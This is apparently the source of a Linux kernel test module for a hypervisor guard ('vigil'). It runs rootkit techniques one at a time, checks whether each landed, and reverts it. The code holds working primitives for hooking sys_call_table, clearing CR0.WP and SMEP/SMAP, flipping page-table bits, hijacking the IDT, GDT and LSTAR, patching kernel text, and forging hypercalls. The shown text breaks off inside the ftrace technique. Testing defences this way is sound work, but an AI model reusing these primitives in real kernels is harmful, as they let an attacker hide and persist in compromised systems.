// SPDX-License-Identifier: GPL-2.0
/*
 * attack: the kernel guard's attack-technique suite (issue 10, item 7). One technique per insmod:
 *
 *   insmod attack.ko technique=X [hvpa=0x...] [fops=SYMBOL]
 *
 * Each technique does what a rootkit does, reads its target back, prints exactly one line
 *
 *   VIGIL-ATTACK: technique=X landed=yes|no <details>
 *
 * and UNDOES itself right away (original bytes, registers and page-table entries put back), so that
 * on a kernel without the guard, where every technique lands, the guest lives on to run the next.
 * Every privileged instruction and every store to the target is fault-safe (an exception-table
 * entry): a guard that blocks by skipping the instruction leaves the old value, one that blocks
 * and injects #GP/#PF makes the instruction "fail" here instead of killing the kernel. The init
 * function returns 0 once the technique is over (an error would make busybox insmod try again with
 * init_module: the technique would run twice); the caller unloads the module (rmmod attack).
 *
 *   a  raw MOV CR0 clearing WP, then a store to a sys_call_table entry
 *   b  a store to sys_call_table through a fresh writable vmap() alias of its page
 *   c  set_memory_rw() (found with kallsyms) on sys_call_table's page, then a store; 6.1 keeps
 *      rodata read-only inside set_memory_rw (static_protections), so the attacker then flips the
 *      RW bit of the page-table entry itself, as rootkits do
 *   d  text_poke() (with text_mutex held) of a JMP rel32 to module code over a kernel function's
 *      first bytes; under a guard the kernel's own read-back BUG()s while holding text_mutex
 *      (docs/GUARD.md), so this runs last
 *   e  the same JMP through the direct-map alias of the function's page (made writable by a PTE flip)
 *   f  a store to an IDT gate (vector 0x80) at the IDT's own address (SIDT; PTE flipped writable)
 *   g  LIDT of a module-owned copy of the IDT
 *   h  LGDT of a module-owned copy of the GDT
 *   i  WRMSR LSTAR = module code
 *   j  raw MOV CR4 clearing SMEP
 *   k  raw MOV CR4 clearing SMAP
 *   l  a store to a const struct file_operations in .rodata (default full_fops, /dev/full) through a vmap alias
 *   m  a store to the hypervisor's memory at hvpa= (what `vigild status` reports) through memremap/ioremap
 *   n  forged hypercalls from ring 0 (no secret, wrong secret, bad pointers, huge sizes, kernel
 *      addresses, unknown functions); tests/guest/programs/forge.c does the same from ring 3
 *   o  register_ftrace_function with FTRACE_OPS_FL_IPMODIFY redirecting a kernel function to module code
 *   p  a DPL-3 call gate to module code written into the free slot 7 of this CPU's GDT through its writable
 *      per-CPU alias (get_cpu_gdt_rw). The guard checks the GDT's fixed descriptors instead of
 *      write-protecting the page (Linux rewrites the TLS slots on every context switch), so the store
 *      itself succeeds and the check puts the old descriptor back at the CPU's next exit after its
 *      interval: the module waits up to 2 s (CPUID exits) and reports landed=yes when the gate is still
 *      there then, with the time it took to disappear
 *
 * Symbols come from kallsyms_lookup_name, found with the kprobe trick (it is not exported since 5.7).
 * "landed=no setup-failed: ..." means the technique could not even be tried (a missing symbol, a CPU
 * without the feature): the emulator tests treat that as a failure of the suite, not a block.
 */
#include <linux/delay.h>
#include <linux/errno.h>
#include <linux/ftrace.h>
#include <linux/init.h>
#include <linux/io.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/ptrace.h>
#include <linux/sched.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/vmalloc.h>
#include <asm/asm.h>
#include <asm/desc.h>
#include <asm/msr.h>
#include <asm/pgtable.h>
#include <asm/processor.h>
#include <asm/processor-flags.h>
#include <asm/sections.h>
#include <asm/tlbflush.h>

static char *technique = "";
module_param(technique, charp, 0444);
MODULE_PARM_DESC(technique, "the technique to try: one of a..p");
static unsigned long hvpa;
module_param(hvpa, ulong, 0444);
MODULE_PARM_DESC(hvpa, "m: physical address of the hypervisor's reservation (vigild status)");
static char *fops = "full_fops";
module_param(fops, charp, 0444);
MODULE_PARM_DESC(fops, "l: a const struct file_operations in .rodata to overwrite");
static unsigned long lookup;
module_param(lookup, ulong, 0444);
MODULE_PARM_DESC(lookup, "kallsyms_lookup_name's address (/proc/kallsyms); 0: found with a kprobe, which arms ftrace");

/* sys_call_table entries of syscalls nobody makes (all sys_ni_syscall on x86-64): afs_syscall, tuxcall, security. */
#define NR_FOR_C 183
#define NR_FOR_A 184
#define NR_FOR_B 185

/* The hooked functions: syscalls nobody makes in the test guest. */
#define TEXT_POKE_TARGET "__x64_sys_sysfs"
#define DIRECT_MAP_TARGET "__x64_sys_uselib"
#define FTRACE_TARGET "__x64_sys_ustat"

#define IDT_VECTOR 0x80

#define SETUP_FAILED "setup-failed:"

static __printf(3, 4) void report(char t, bool landed, const char *fmt, ...)
{
	char text[512];
	va_list args;

	va_start(args, fmt);
	vsnprintf(text, sizeof(text), fmt, args);
	va_end(args);
	pr_info("VIGIL-ATTACK: technique=%c landed=%s %s\n", t, landed ? "yes" : "no", text);
}

/* ---- symbols: the kprobe trick ---------------------------------------------------------------- */

typedef unsigned long (*kallsyms_lookup_name_t)(const char *name);
static kallsyms_lookup_name_t lookup_name;

static unsigned long sym(const char *name)
{
	if (!lookup_name && lookup)
		lookup_name = (kallsyms_lookup_name_t)lookup;
	if (!lookup_name) {
		/* A kprobe on an ftrace site: arming it patches kernel text (under strict rules that is refused). */
		struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };

		if (register_kprobe(&probe) < 0)
			return 0;
		lookup_name = (kallsyms_lookup_name_t)probe.addr;
		unregister_kprobe(&probe);
	}
	return lookup_name ? lookup_name(name) : 0;
}

/* ---- fault-safe primitives: an exception-table entry turns #PF/#GP/#UD into -EFAULT ------------- */

static noinline int write64_safe(void *dst, u64 value)
{
	int err;

	asm volatile("1:	movq %[value], (%[dst])\n"
		     "	xorl %[err], %[err]\n"
		     "2:\n"
		     _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %[err])
		     : [err] "=&r" (err)
		     : [dst] "r" (dst), [value] "r" (value)
		     : "memory");
	return err;
}

static noinline int read64_safe(const void *src, u64 *value)
{
	int err;
	u64 v = 0;

	asm volatile("1:	movq (%[src]), %[v]\n"
		     "	xorl %[err], %[err]\n"
		     "2:\n"
		     _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %[err])
		     : [err] "=&r" (err), [v] "+&r" (v)
		     : [src] "r" (src)
		     : "memory");
	*value = err ? 0 : v;
	return err;
}

static inline unsigned long read_cr0_raw(void)
{
	unsigned long v;

	asm volatile("mov %%cr0, %0" : "=r" (v));
	return v;
}

static inline unsigned long read_cr4_raw(void)
{
	unsigned long v;

	asm volatile("mov %%cr4, %0" : "=r" (v));
	return v;
}

/* A raw MOV CR0: not native_write_cr0, which puts WP back and warns. */
static noinline int write_cr0_raw(unsigned long v)
{
	int err;

	asm volatile("1:	mov %[v], %%cr0\n"
		     "	xorl %[err], %[err]\n"
		     "2:\n"
		     _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %[err])
		     : [err] "=&r" (err) : [v] "r" (v) : "memory");
	return err;
}

/* A raw MOV CR4: not native_write_cr4, which re-pins SMEP/SMAP/UMIP. */
static noinline int write_cr4_raw(unsigned long v)
{
	int err;

	asm volatile("1:	mov %[v], %%cr4\n"
		     "	xorl %[err], %[err]\n"
		     "2:\n"
		     _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %[err])
		     : [err] "=&r" (err) : [v] "r" (v) : "memory");
	return err;
}

static noinline int lidt_safe(const struct desc_ptr *d)
{
	int err;

	asm volatile("1:	lidt %[d]\n"
		     "	xorl %[err], %[err]\n"
		     "2:\n"
		     _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %[err])
		     : [err] "=&r" (err) : [d] "m" (*d) : "memory");
	return err;
}

static noinline int lgdt_safe(const struct desc_ptr *d)
{
	int err;

	asm volatile("1:	lgdt %[d]\n"
		     "	xorl %[err], %[err]\n"
		     "2:\n"
		     _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %[err])
		     : [err] "=&r" (err) : [d] "m" (*d) : "memory");
	return err;
}

/* ---- page tables ---------------------------------------------------------------------------------- */

/* The physical address behind a kernel virtual address, from the kernel's page tables (any page size). */
static bool kernel_phys(unsigned long addr, phys_addr_t *pa)
{
	unsigned int level;
	unsigned long size;
	pte_t *pte = lookup_address(addr, &level);

	if (!pte || !(pte_val(*pte) & _PAGE_PRESENT))
		return false;
	size = level == PG_LEVEL_1G ? PUD_SIZE : level == PG_LEVEL_2M ? PMD_SIZE : PAGE_SIZE;
	*pa = (pte_val(*pte) & PTE_PFN_MASK & ~((u64)size - 1)) | (addr & (size - 1));
	return true;
}

/* A page-table entry whose RW bit the attacker set (and puts back). Interrupts stay off in between. */
struct flip {
	pte_t *pte;
	pteval_t old;
	unsigned int level;
	bool flipped;
};

static void make_writable(unsigned long addr, struct flip *f)
{
	f->flipped = false;
	f->pte = lookup_address(addr, &f->level);
	if (!f->pte)
		return;
	f->old = pte_val(*f->pte);
	if (f->old & _PAGE_RW)
		return;
	WRITE_ONCE(f->pte->pte, f->old | _PAGE_RW);
	__flush_tlb_all();
	f->flipped = true;
}

static void undo_writable(struct flip *f)
{
	if (!f->flipped)
		return;
	WRITE_ONCE(f->pte->pte, f->old);
	__flush_tlb_all();
}

/*
 * Writes a qword at addr through a fresh writable vmap() alias of its page; returns the store's error,
 * and in *readback what the ORIGINAL address holds afterwards. If it changed, the original goes back.
 */
static int write_through_vmap(unsigned long addr, u64 value, u64 original, u64 *readback, const char **why)
{
	phys_addr_t pa;
	struct page *page;
	void *alias;
	int err;

	if (!kernel_phys(addr, &pa)) {
		*why = "no page-table entry";
		return -ENOENT;
	}
	page = pfn_to_page(pa >> PAGE_SHIFT);
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias) {
		*why = "vmap failed";
		return -ENOMEM;
	}
	err = write64_safe((u8 *)alias + offset_in_page(addr), value);
	*readback = READ_ONCE(*(u64 *)addr);
	if (*readback != original)
		write64_safe((u8 *)alias + offset_in_page(addr), original);
	vunmap(alias);
	*why = NULL;
	return err;
}

/* Module code the hooks and tables point at. Returns like a syscall nobody implements. */
static noinline long attack_stub(const struct pt_regs *regs)
{
	return -ENOSYS;
}

/* The JMP rel32 from `at` to the stub; false if the module is out of reach (never on x86-64's layout). */
static bool jmp_to_stub(const u8 *at, u8 jmp[5])
{
	long rel = (long)attack_stub - ((long)at + 5);
	s32 rel32 = (s32)rel;

	if (rel != rel32)
		return false;
	jmp[0] = 0xE9;
	memcpy(jmp + 1, &rel32, 4);
	return true;
}

/* ---- the techniques ------------------------------------------------------------------------------- */

static void technique_a(void)
{
	unsigned long *table = (unsigned long *)sym("sys_call_table");
	unsigned long flags, cr0, cr0_cleared, cr0_after, original, readback, after;
	int clear_err, write_err;

	if (!table) {
		report('a', false, SETUP_FAILED " sys_call_table not found");
		return;
	}
	original = READ_ONCE(table[NR_FOR_A]);
	local_irq_save(flags);
	cr0 = read_cr0_raw();
	clear_err = write_cr0_raw(cr0 & ~X86_CR0_WP);
	cr0_cleared = read_cr0_raw();
	write_err = write64_safe(&table[NR_FOR_A], (unsigned long)attack_stub);
	readback = READ_ONCE(table[NR_FOR_A]);
	if (readback != original)
		write64_safe(&table[NR_FOR_A], original);
	write_cr0_raw(cr0);
	cr0_after = read_cr0_raw();
	local_irq_restore(flags);
	after = READ_ONCE(table[NR_FOR_A]);
	report('a', readback == (unsigned long)attack_stub,
	       "mov-cr0 0x%lx->0x%lx (wp %s, err %d); sys_call_table[%d] at %px: store err %d, 0x%lx -> read back 0x%lx; undone: entry %s, cr0 0x%lx",
	       cr0, cr0_cleared, (cr0_cleared & X86_CR0_WP) ? "still set" : "CLEARED", clear_err, NR_FOR_A, &table[NR_FOR_A],
	       write_err, original, readback, after == original ? "restored" : "NOT RESTORED", cr0_after);
}

static void technique_b(void)
{
	unsigned long *table = (unsigned long *)sym("sys_call_table");
	u64 original, readback = 0;
	const char *why;
	int err;

	if (!table) {
		report('b', false, SETUP_FAILED " sys_call_table not found");
		return;
	}
	original = READ_ONCE(table[NR_FOR_B]);
	err = write_through_vmap((unsigned long)&table[NR_FOR_B], (unsigned long)attack_stub, original, &readback, &why);
	if (why) {
		report('b', false, SETUP_FAILED " %s", why);
		return;
	}
	report('b', readback == (unsigned long)attack_stub,
	       "vmap alias of sys_call_table[%d] at %px: store err %d, 0x%llx -> read back 0x%llx; undone: entry %s",
	       NR_FOR_B, &table[NR_FOR_B], err, original, readback,
	       READ_ONCE(table[NR_FOR_B]) == original ? "restored" : "NOT RESTORED");
}

static void technique_c(void)
{
	unsigned long *table = (unsigned long *)sym("sys_call_table");
	int (*set_rw)(unsigned long addr, int numpages) = (void *)sym("set_memory_rw");
	int (*set_ro)(unsigned long addr, int numpages) = (void *)sym("set_memory_ro");
	unsigned long addr, page, flags, original, readback;
	unsigned int level;
	struct flip f = { 0 };
	bool rw_after_call;
	pte_t *pte;
	int rc, err;

	if (!table || !set_rw || !set_ro) {
		report('c', false, SETUP_FAILED " sys_call_table/set_memory_rw/set_memory_ro not found");
		return;
	}
	addr = (unsigned long)&table[NR_FOR_C];
	page = addr & PAGE_MASK;
	original = READ_ONCE(table[NR_FOR_C]);
	rc = set_rw(page, 1);
	pte = lookup_address(addr, &level);
	rw_after_call = pte && (pte_val(*pte) & _PAGE_RW);
	local_irq_save(flags);
	if (!rw_after_call)
		make_writable(addr, &f);
	err = write64_safe(&table[NR_FOR_C], (unsigned long)attack_stub);
	readback = READ_ONCE(table[NR_FOR_C]);
	if (readback != original)
		write64_safe(&table[NR_FOR_C], original);
	undo_writable(&f);
	local_irq_restore(flags);
	set_ro(page, 1);
	report('c', readback == (unsigned long)attack_stub,
	       "set_memory_rw(0x%lx)=%d, pte %s after it%s; sys_call_table[%d] at %px: store err %d, 0x%lx -> read back 0x%lx; undone: entry %s",
	       page, rc, rw_after_call ? "writable" : "still read-only",
	       f.flipped ? ", RW bit flipped by hand" : "", NR_FOR_C, &table[NR_FOR_C], err, original, readback,
	       READ_ONCE(table[NR_FOR_C]) == original ? "restored" : "NOT RESTORED");
}

static void technique_d(void)
{
	void *(*poke)(void *addr, const void *opcode, size_t len) = (void *)sym("text_poke");
	struct mutex *text_mutex_p = (struct mutex *)sym("text_mutex");
	u8 *target = (u8 *)sym(TEXT_POKE_TARGET);
	u8 original[5], jmp[5], readback[5];
	bool landed;

	if (!poke || !text_mutex_p || !target) {
		report('d', false, SETUP_FAILED " text_poke/text_mutex/" TEXT_POKE_TARGET " not found");
		return;
	}
	if (!jmp_to_stub(target, jmp)) {
		report('d', false, SETUP_FAILED " module code out of rel32 reach of %px", target);
		return;
	}
	if (mutex_is_locked(text_mutex_p)) {
		report('d', false, SETUP_FAILED " text_mutex is held by someone else (an earlier text_poke BUG?)");
		return;
	}
	memcpy(original, target, 5);
	/* If the guard refuses the write, text_poke's read-back BUG()s and this task dies here: say what was tried. */
	pr_info("vigil-attack: d: text_poke %s at %px: %5ph -> %5ph (a refused write BUG()s in __text_poke)\n",
		TEXT_POKE_TARGET, target, original, jmp);
	mutex_lock(text_mutex_p);
	poke(target, jmp, 5);
	mutex_unlock(text_mutex_p);
	memcpy(readback, target, 5);
	landed = memcmp(readback, jmp, 5) == 0;
	if (memcmp(readback, original, 5) != 0) {
		mutex_lock(text_mutex_p);
		poke(target, original, 5);
		mutex_unlock(text_mutex_p);
	}
	report('d', landed, "text_poke JMP over %s at %px: %5ph -> read back %5ph; undone: %s",
	       TEXT_POKE_TARGET, target, original, readback, memcmp(target, original, 5) == 0 ? "restored" : "NOT RESTORED");
}

static void technique_e(void)
{
	u8 *target = (u8 *)sym(DIRECT_MAP_TARGET);
	u8 jmp[5], readback[8];
	u64 original, value, now;
	unsigned long flags;
	struct flip f = { 0 };
	phys_addr_t pa;
	u8 *alias;
	int err;

	if (!target || !kernel_phys((unsigned long)target, &pa)) {
		report('e', false, SETUP_FAILED " " DIRECT_MAP_TARGET " not found or not mapped");
		return;
	}
	if (!jmp_to_stub(target, jmp)) {
		report('e', false, SETUP_FAILED " module code out of rel32 reach of %px", target);
		return;
	}
	alias = (u8 *)__va(pa);
	memcpy(&original, target, 8);
	value = original;
	memcpy(&value, jmp, 5);
	local_irq_save(flags);
	make_writable((unsigned long)alias, &f);
	err = write64_safe(alias, value);
	memcpy(readback, target, 8);
	if (memcmp(readback, &original, 8) != 0)
		write64_safe(alias, original);
	undo_writable(&f);
	local_irq_restore(flags);
	memcpy(&now, target, 8);
	report('e', memcmp(readback, jmp, 5) == 0,
	       "direct-map alias %px (pa 0x%llx, pte RW %s) of %s at %px: store err %d, %5ph -> read back %5ph; undone: %s",
	       alias, (u64)pa, f.flipped ? "flipped by hand" : "was set", DIRECT_MAP_TARGET, target, err,
	       &original, readback, now == original ? "restored" : "NOT RESTORED");
}

static void technique_f(void)
{
	struct desc_ptr idt;
	unsigned long flags, stub = (unsigned long)attack_stub;
	u64 original, value, readback, now;
	struct flip f = { 0 };
	u8 *gate;
	int err;

	store_idt(&idt);
	if (idt.size < IDT_VECTOR * 16 + 15) {
		report('f', false, SETUP_FAILED " IDT limit 0x%x too small for vector 0x%x", idt.size, IDT_VECTOR);
		return;
	}
	gate = (u8 *)idt.address + IDT_VECTOR * 16;
	original = READ_ONCE(*(u64 *)gate);
	/* offset bits 0-15 at byte 0, 16-31 at byte 6 (SDM Vol 3 6.14.1); bits 32-63 (byte 8) are the same for all kernel code. */
	value = (original & 0x0000FFFFFFFF0000ULL) | (stub & 0xFFFF) | (((u64)(stub >> 16) & 0xFFFF) << 48);
	local_irq_save(flags);
	make_writable((unsigned long)gate, &f);
	err = write64_safe(gate, value);
	readback = READ_ONCE(*(u64 *)gate);
	if (readback != original)
		write64_safe(gate, original);
	undo_writable(&f);
	local_irq_restore(flags);
	now = READ_ONCE(*(u64 *)gate);
	report('f', readback == value,
	       "IDT base 0x%lx gate 0x%x at %px (pte RW %s): store err %d, 0x%016llx -> read back 0x%016llx; undone: gate %s",
	       idt.address, IDT_VECTOR, gate, f.flipped ? "flipped by hand" : "was set", err, original, readback,
	       now == original ? "restored" : "NOT RESTORED");
}

static void store_gdt_of_cpu(struct desc_ptr *d)
{
	native_store_gdt(d);
}

static void store_idt_of_cpu(struct desc_ptr *d)
{
	store_idt(d);
}

/* g and h: load a module-owned copy of the table into IDTR/GDTR, read the register back, put the original back. */
static void load_own_table(char t, const char *table, int (*load)(const struct desc_ptr *), void (*store)(struct desc_ptr *))
{
	struct desc_ptr original, mine, loaded, after;
	unsigned long flags;
	void *copy = (void *)get_zeroed_page(GFP_KERNEL);
	int err;

	if (!copy) {
		report(t, false, SETUP_FAILED " no page for the %s copy", table);
		return;
	}
	store(&original);
	memcpy(copy, (void *)original.address, min_t(unsigned int, original.size + 1, PAGE_SIZE));
	mine.size = original.size;
	mine.address = (unsigned long)copy;
	local_irq_save(flags);
	err = load(&mine);
	store(&loaded);
	if (loaded.address != original.address || loaded.size != original.size)
		load(&original);
	store(&after);
	local_irq_restore(flags);
	free_page((unsigned long)copy);
	report(t, loaded.address == mine.address,
	       "L%s 0x%lx/0x%x (was 0x%lx/0x%x): err %d, %sR then 0x%lx/0x%x; undone: %sR %s",
	       table, mine.address, mine.size, original.address, original.size, err, table, loaded.address, loaded.size,
	       table, after.address == original.address && after.size == original.size ? "restored" : "NOT RESTORED");
}

static void technique_i(void)
{
	u64 original, readback, after, value = (unsigned long)attack_stub, tsc_before, tsc_after;
	unsigned long flags;
	int err;

	local_irq_save(flags);
	rdmsrl(MSR_LSTAR, original);
	/* The attempt's TSC on both sides of the WRMSR (issue 10: the time from an attempt to its event;
	 * without a TSC offset the guest's TSC is the counter the hypervisor stamps its events with). */
	tsc_before = rdtsc_ordered();
	err = wrmsrl_safe(MSR_LSTAR, value);
	tsc_after = rdtsc_ordered();
	rdmsrl(MSR_LSTAR, readback);
	if (readback != original)
		wrmsrl_safe(MSR_LSTAR, original);
	rdmsrl(MSR_LSTAR, after);
	local_irq_restore(flags);
	report('i', readback == value, "WRMSR LSTAR 0x%llx -> 0x%llx: err %d, read back 0x%llx; undone: LSTAR %s; tsc-before=%llu tsc-after=%llu",
	       original, value, err, readback, after == original ? "restored" : "NOT RESTORED", tsc_before, tsc_after);
}

static void clear_cr4_bit(char t, unsigned long bit, const char *name)
{
	unsigned long flags, cr4, readback, after;
	int err;

	cr4 = read_cr4_raw();
	if (!(cr4 & bit)) {
		report(t, false, SETUP_FAILED " CR4.%s is not set on this CPU (cr4 0x%lx)", name, cr4);
		return;
	}
	local_irq_save(flags);
	cr4 = read_cr4_raw();
	err = write_cr4_raw(cr4 & ~bit);
	readback = read_cr4_raw();
	if (readback != cr4)
		write_cr4_raw(cr4);
	after = read_cr4_raw();
	local_irq_restore(flags);
	report(t, !(readback & bit), "mov-cr4 clearing %s: 0x%lx -> 0x%lx: err %d, read back 0x%lx (%s %s); undone: cr4 %s",
	       name, cr4, cr4 & ~bit, err, readback, name, (readback & bit) ? "still set" : "CLEARED",
	       after == cr4 ? "restored" : "NOT RESTORED");
}

static void technique_l(void)
{
	unsigned long table = sym(fops);
	unsigned long start = sym("__start_rodata"), end = sym("__end_rodata");
	unsigned long field, value = (unsigned long)attack_stub;
	u64 original, readback = 0;
	const char *why;
	int err;

	if (!table || !start || !end) {
		report('l', false, SETUP_FAILED " %s/__start_rodata/__end_rodata not found", fops);
		return;
	}
	if (table < start || table + sizeof(struct file_operations) > end) {
		report('l', false, SETUP_FAILED " %s at 0x%lx is not in .rodata (0x%lx-0x%lx)", fops, table, start, end);
		return;
	}
	field = table + offsetof(struct file_operations, llseek);
	original = READ_ONCE(*(u64 *)field);
	err = write_through_vmap(field, value, original, &readback, &why);
	if (why) {
		report('l', false, SETUP_FAILED " %s", why);
		return;
	}
	report('l', readback == value, "vmap alias of %s.llseek at 0x%lx (.rodata): store err %d, 0x%llx -> read back 0x%llx; undone: %s",
	       fops, field, err, original, readback, READ_ONCE(*(u64 *)field) == original ? "restored" : "NOT RESTORED");
}

static void technique_m(void)
{
	const unsigned long offset = 0x100;
	const u64 marker = 0x4B54414C49474956ULL;   /* "VIGILATK" */
	const char *mapping = "memremap";
	u64 original = 0, readback = 0, now = 0;
	int read_err, write_err, check_err;
	bool landed;
	u8 *va;

	if (!hvpa) {
		report('m', false, SETUP_FAILED " no hvpa= given (vigild status reports the reservation)");
		return;
	}
	va = memremap(hvpa, PAGE_SIZE, MEMREMAP_WB);
	if (!va) {
		va = (u8 __force *)ioremap(hvpa, PAGE_SIZE);
		mapping = "ioremap";
	}
	if (!va) {
		report('m', false, SETUP_FAILED " neither memremap nor ioremap mapped 0x%lx", hvpa);
		return;
	}
	read_err = read64_safe(va + offset, &original);
	write_err = write64_safe(va + offset, marker);
	check_err = read64_safe(va + offset, &readback);
	landed = !check_err && readback == marker;
	if (landed && !read_err)
		write64_safe(va + offset, original);
	read64_safe(va + offset, &now);
	if (mapping[0] == 'm')
		memunmap(va);
	else
		iounmap((void __iomem *)va);
	report('m', landed, "%s of hypervisor memory at pa 0x%lx: read err %d (0x%llx), store err %d, read back err %d 0x%llx%s",
	       mapping, hvpa + offset, read_err, original, write_err, check_err, readback,
	       landed ? (now == original ? "; undone: restored" : "; undone: NOT RESTORED") : "");
}

/* ---- n: forged hypercalls from ring 0 -------------------------------------------------------------- */

#define HC_SIGNATURE 0x564947494C000000ULL   /* hv/Abi/Hypercall.cs: "VIGIL" in RAX bits 24-63 */
#define HC_STATUS 1
#define HC_PROTECT 2
#define HC_LOCK 3
#define HC_READ_EVENTS 4
#define WRONG_SECRET 0x5445524345534F4EULL   /* "NOSECRET" */

static const char *hc_status_name(u64 s)
{
	static const char *const names[] = { "Success", "UnknownFunction", "BadBufferSize", "BadAddress", "NotPermitted" };

	return s < ARRAY_SIZE(names) ? names[s] : "other";
}

/* regs = {RAX, RBX, RCX, RDX} in and out. VMMCALL on AMD, VMCALL on Intel; #UD (no hypervisor) gives -EFAULT. */
static noinline int hypercall_safe(bool amd, u64 regs[4])
{
	u64 a = regs[0], b = regs[1], c = regs[2], d = regs[3];
	int err;

	if (amd)
		asm volatile("1:	vmmcall\n"
			     "	xorl %[err], %[err]\n"
			     "2:\n"
			     _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %[err])
			     : [err] "=&r" (err), "+a" (a), "+b" (b), "+c" (c), "+d" (d) : : "memory");
	else
		asm volatile("1:	vmcall\n"
			     "	xorl %[err], %[err]\n"
			     "2:\n"
			     _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %[err])
			     : [err] "=&r" (err), "+a" (a), "+b" (b), "+c" (c), "+d" (d) : : "memory");
	regs[0] = a;
	regs[1] = b;
	regs[2] = c;
	regs[3] = d;
	return err;
}

struct forged_call {
	const char *what;
	u64 rax, rbx, rcx, rdx;
};

static void technique_n(void)
{
	bool amd = boot_cpu_data.x86_vendor == X86_VENDOR_AMD || boot_cpu_data.x86_vendor == X86_VENDOR_HYGON;
	u8 *buffer = kzalloc(PAGE_SIZE, GFP_KERNEL);
	u64 kernel_text = sym("_text");
	unsigned int i, refused = 0, succeeded = 0, faulted = 0;
	u64 regs[4];
	int err;

	if (!buffer) {
		report('n', false, SETUP_FAILED " no buffer");
		return;
	}
	{
		const struct forged_call calls[] = {
			{ "protect without secret", HC_SIGNATURE | HC_PROTECT, 0, 0, 0 },
			{ "protect with a wrong secret", HC_SIGNATURE | HC_PROTECT, (u64)buffer, PAGE_SIZE, WRONG_SECRET },
			{ "protect wrong secret, kernel text as buffer", HC_SIGNATURE | HC_PROTECT, kernel_text, PAGE_SIZE, WRONG_SECRET },
			{ "lock without secret", HC_SIGNATURE | HC_LOCK, 0, 0, 0 },
			{ "lock with a wrong secret", HC_SIGNATURE | HC_LOCK, 0, 0, WRONG_SECRET },
			{ "read-events without secret", HC_SIGNATURE | HC_READ_EVENTS, (u64)buffer, PAGE_SIZE, 0 },
			{ "read-events wrong secret", HC_SIGNATURE | HC_READ_EVENTS, (u64)buffer, PAGE_SIZE, WRONG_SECRET },
			{ "read-events null buffer", HC_SIGNATURE | HC_READ_EVENTS, 0, PAGE_SIZE, WRONG_SECRET },
			{ "read-events huge size", HC_SIGNATURE | HC_READ_EVENTS, (u64)buffer, ~0ULL, WRONG_SECRET },
			{ "read-events non-canonical buffer", HC_SIGNATURE | HC_READ_EVENTS, 0xDEAD000000000000ULL, PAGE_SIZE, WRONG_SECRET },
			{ "read-events into kernel text", HC_SIGNATURE | HC_READ_EVENTS, kernel_text, PAGE_SIZE, WRONG_SECRET },
			{ "unknown function 0", HC_SIGNATURE | 0, (u64)buffer, PAGE_SIZE, WRONG_SECRET },
			{ "unknown function 5", HC_SIGNATURE | 5, (u64)buffer, PAGE_SIZE, WRONG_SECRET },
			{ "unknown function 0x7fff", HC_SIGNATURE | 0x7FFF, (u64)buffer, PAGE_SIZE, WRONG_SECRET },
			{ "unknown function 0xffff", HC_SIGNATURE | 0xFFFF, (u64)buffer, PAGE_SIZE, WRONG_SECRET },
			{ "protect without the signature", HC_PROTECT, 0, 0, 0 },
		};

		/* Control (not an attack): Status answers everyone, so the channel itself works. */
		regs[0] = HC_SIGNATURE | HC_STATUS;
		regs[1] = (u64)buffer;
		regs[2] = 0;
		regs[3] = 0;
		err = hypercall_safe(amd, regs);
		pr_info("vigil-attack: n ring0 call=\"status (control, size 0)\" -> %s\n",
			err ? "fault" : hc_status_name(regs[0]));
		for (i = 0; i < ARRAY_SIZE(calls); i++) {
			regs[0] = calls[i].rax;
			regs[1] = calls[i].rbx;
			regs[2] = calls[i].rcx;
			regs[3] = calls[i].rdx;
			err = hypercall_safe(amd, regs);
			if (err)
				faulted++;
			else if (regs[0] == 0)
				succeeded++;
			else
				refused++;
			pr_info("vigil-attack: n ring0 call=\"%s\" rax=0x%llx rbx=0x%llx rcx=0x%llx rdx=0x%llx -> %s%s (0x%llx)\n",
				calls[i].what, calls[i].rax, calls[i].rbx, calls[i].rcx, calls[i].rdx,
				err ? "fault" : hc_status_name(regs[0]), (!err && regs[0] == 0) ? " LANDED" : "", err ? 0 : regs[0]);
		}
		report('n', succeeded > 0, "ring0 %s: %u calls: %u succeeded, %u refused, %u faulted",
		       amd ? "vmmcall" : "vmcall", (unsigned int)ARRAY_SIZE(calls), succeeded, refused, faulted);
	}
	kfree(buffer);
}

/* ---- o: an ftrace hook with IPMODIFY ---------------------------------------------------------------- */

#define HOOK_RESULT 0x5649474CL   /* "VIGL" */

static struct task_struct *hook_task;
static atomic_t hook_hits = ATOMIC_INIT(0);

static noinline long attack_hooked(const struct pt_regs *regs)
{
	atomic_inc(&hook_hits);
	return HOOK_RESULT;
}

/* The ftrace callback: only this module's own call is redirected, every other caller runs the real function. */
static void notrace attack_ftrace_callback(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *op,
					   struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (regs && READ_ONCE(hook_task) == current)
		regs->ip = (unsigned long)attack_hooked;
}

static struct ftrace_ops attack_ops = {
	.func = attack_ftrace_callback,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
};

static void technique_o(void)
{
	unsigned long target = sym(FTRACE_TARGET);
	struct mutex *text_mutex_p = (struct mutex *)sym("text_mutex");
	long (*call)(const struct pt_regs *regs) = (void *)target;
	struct pt_regs regs = { 0 };
	u8 before[5], during[5], after[5];
	int filter_err, register_err, unregister_err = 0;
	long result = 0;
	bool landed;

	if (!target) {
		report('o', false, SETUP_FAILED " " FTRACE_TARGET " not found");
		return;
	}
	if (text_mutex_p && mutex_is_locked(text_mutex_p)) {
		report('o', false, SETUP_FAILED " text_mutex is held by someone else (an earlier text_poke BUG?): ftrace would hang");
		return;
	}
